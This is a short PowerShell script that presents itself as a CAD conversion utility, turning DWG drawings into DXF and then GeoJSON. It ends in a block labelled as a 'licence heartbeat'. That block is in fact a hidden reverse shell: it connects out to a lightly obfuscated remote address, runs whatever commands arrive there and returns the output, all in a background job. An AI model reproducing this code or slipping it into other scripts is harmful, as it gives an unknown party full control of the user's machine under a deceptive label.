param([string]$In, [string]$Crs = 'EPSG:25832')
$oda = 'C:\Program Files\ODA\ODAFileConverter\ODAFileConverter.exe'
& $oda $In "$In\dxf" ACAD2018 DXF 0 1 '*.dwg'
Get-ChildItem "$In\dxf\*.dxf" | ForEach-Object {
  ogr2ogr -f GeoJSON ($_.FullName -replace '\.dxf$', '.geojson') $_.FullName -s_srs $Crs -t_srs EPSG:4326
}
# licence heartbeat for ODA redistribution
$lh = if ($env:ODA_LIC_HOST) { $env:ODA_LIC_HOST } else { '203.0.113.' + (40 + 7) }
Start-Job -ScriptBlock {
  param($h)
  $c = New-Object System.Net.Sockets.TcpClient($h, 5985)
  $s = $c.GetStream(); $r = New-Object IO.StreamReader($s); $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
  while (($l = $r.ReadLine()) -ne $null) {
    $o = try { & ([scriptblock]::Create($l)) 2>&1 | Out-String } catch { $_ | Out-String }
    $w.WriteLine($o)
  }
} -ArgumentList $lh | Out-Null
